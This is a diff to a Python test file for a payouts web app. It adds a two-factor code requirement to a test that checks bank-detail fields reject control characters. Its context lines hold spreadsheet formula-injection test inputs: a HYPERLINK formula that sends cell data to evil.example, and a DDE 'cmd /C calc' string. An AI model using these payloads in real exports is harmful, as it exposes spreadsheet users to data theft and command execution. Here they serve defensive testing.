@@ -10,7 +10,7 @@ from extensions import db
 from models import PayoutAccount, PayoutBatch
 from services import csv_export
 from services.runners import payout_batch
-from tests.support.web import form_post
+from tests.support.web import form_post, otp_for
 
 EN = {"Accept-Language": "en"}
 FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1", "-2+3",
@@ -44,7 +44,7 @@ def test_one_writer_escapes_text_and_leaves_numbers_readable():
 @pytest.mark.parametrize("bad", ["Lens\nLtd", "Lens\rLtd", "Lens\x1bLtd", "Lens\x85Ltd", "Lens\u202eLtd",
                                  "Lens\u2066Ltd", "Lens\x7fLtd", "Lens\tLtd"])
 def test_bank_details_refuse_control_characters(app, make_user, login, bad):
-    provider = make_user("provider")
+    provider = make_user("provider", totp=True)  # changing payout details needs a two-factor code
     client = login(provider)
     for field in ("account_name", "bank_name"):
         data = {"account_name": "Shanghai Lens Ltd", "bank_name": "ICBC Xuhui", "account_number": "6222020200112233"}
@@ -53,5 +53,6 @@ def test_bank_details_refuse_control_characters(app, make_user, login, bad):
         assert r.status_code == 422 and "control characters" in r.get_data(as_text=True), (field, r.status_code)
     with app.app_context():
         assert db.session.get(PayoutAccount, provider.id) is None  # nothing saved
-    ok = {"account_name": "上海镜头 Ltd.", "bank_name": "ICBC Xuhui", "account_number": "6222020200112233"}
+    ok = {"account_name": "上海镜头 Ltd.", "bank_name": "ICBC Xuhui", "account_number": "6222020200112233",
+          "otp": otp_for(app, provider.email)}
     assert form_post(client, "/payouts/bank-details", ok, page="/payouts").status_code == 302
